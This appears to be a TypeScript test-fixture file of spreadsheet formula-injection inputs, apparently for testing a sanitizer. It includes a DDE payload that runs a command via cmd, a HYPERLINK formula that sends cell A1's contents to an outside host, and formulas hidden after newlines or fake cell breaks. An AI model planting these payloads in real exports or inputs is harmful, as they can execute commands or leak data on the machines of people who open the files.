/** Texts that one spreadsheet or another takes for a formula, or that end a cell early so that another begins with one. */
const BEGINNINGS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '  \u00a0+',
  '\uff1d',
  '\uff0b',
];
const CALLS = [
  "cmd|' /C calc'!A0",
  '1+1',
  'HYPERLINK("http://example.org?x="&A1,"Click")',
  'SUM(A1:A9)',
  '2',
];

/** 60 of them. */
export const FORMULAS: readonly string[] = BEGINNINGS.flatMap((beginning) =>
  CALLS.map((call) => beginning + call),
);

/** More, in which a later line or what looks like the next cell begins with one. */
export const HIDDEN_FORMULAS: readonly string[] = [
  'fine\n=1+1',
  'fine\r\n=1+1',
  'fine\r@SUM(A1)',
  'fine\n \u00a0-2',
  'fine",=1+1',
  '",=1+1,"',
  'fine\n\n+1',
  '"=1+1"',
];
